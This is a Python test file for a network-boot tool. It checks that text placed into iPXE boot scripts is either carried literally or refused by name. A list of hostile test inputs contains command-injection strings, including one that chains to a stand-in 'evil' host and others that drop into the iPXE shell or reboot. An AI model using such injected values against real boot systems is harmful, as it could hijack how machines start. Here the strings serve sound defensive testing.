"""Text in scripts: iPXE passes it on as it is, or it is refused by name."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from ipxe_model import commands, kernel_line, script_commands
from storeboot.boot.script import Item, boot_script, menu_script, refusal_script, waiting_script
from storeboot.config import SettingsSection
from storeboot.protocol import ipxe

URL = "http://192.168.1.1:8080"
ODD = st.text(st.sampled_from("ab ;|&#${}\"\\=%'~\té\N{NO-BREAK SPACE}\n\r\0\x7f"), max_size=12)
HOSTILE = (
    "x && chain http://192.0.2.1/evil &&",
    "x || shell ||",
    "x ; reboot ;",
    "# nothing",
    "${net0/mac}",
    "${${net0/mac}",
    "$${}{net0/mac}",
    "x\n:failed\nshell",
    "x\rshell",
    "x\\",
)


def booted(line: str) -> str:
    script = boot_script(url=URL, view="v", command_line=line, host="lab1")
    return kernel_line(script).removesuffix(" BOOTIF=01-52-54-00-00-00-01")


@given(ODD)
def test_what_iPXE_is_given_reaches_the_kernel_as_it_is(param: str) -> None:  # noqa: N802
    line = f"init=/x {param} quiet"
    if ipxe.fault(param) is None:
        assert booted(line) == line
    else:
        with pytest.raises(ValueError, match=r"control character|\$\{…\}"):
            ipxe.literal(line)


@pytest.mark.parametrize(
    "param",
    ['dyndbg="file x.c +p ; file  y.c +p"', "||", "&&", ";", "#1", "a#b", "x=$HOME", "x=${y", "#\\",
     "x=y}", "}${", "--", "$", "x=Zoë"],
)  # fmt: skip
def test_odd_parameters_that_are_carried(param: str) -> None:
    assert booted(f"init=/x {param} quiet") == f"init=/x {param} quiet"


@pytest.mark.parametrize("said", HOSTILE)
def test_text_that_is_shown_has_no_meaning(said: str) -> None:
    refusal = script_commands(refusal_script(said))
    assert [command[0] for command in refusal] == ["echo", "sleep", "exit"]
    waiting = script_commands(waiting_script(url=URL, query="q", reason=said))
    plain = script_commands(waiting_script(url=URL, query="q", reason="x"))
    assert [command[0] for command in waiting] == [command[0] for command in plain]
    (echo,) = commands(f"echo {ipxe.shown(said)}")
    assert not any("52:54" in word for word in echo)


def test_titles_and_items_have_no_meaning() -> None:
    def menu(words: str) -> list[str]:
        script = menu_script(
            url=URL, query="q", title=words, items=[Item("1", words)], parameter="choice",
            default="1", seconds=1,
        )  # fmt: skip
        return [command[0] for command in script_commands(script)]

    assert all(menu(said) == menu("x") for said in HOSTILE)


@pytest.mark.parametrize(
    ("param", "said"),
    [
        ("quiet\nreboot", "has a line break or another control character"),
        ("x=\t1", "has a line break or another control character"),
        ("x=${net0/mac}", r"has \$\{…\}, which iPXE replaces"),
        ("||", "ends a command of iPXE"),
        ("&&", "ends a command of iPXE"),
        (";", "ends a command of iPXE"),
        ("# quiet", "ends a command of iPXE"),
        ("", "is empty"),
        (" ", "is empty"),
    ],
)
def test_a_host_is_refused_such_a_parameter_by_name(param: str, said: str) -> None:
    with pytest.raises(ValidationError, match=f"kernel parameter .*{said}"):
        SettingsSection(kernel_params=("quiet", param))
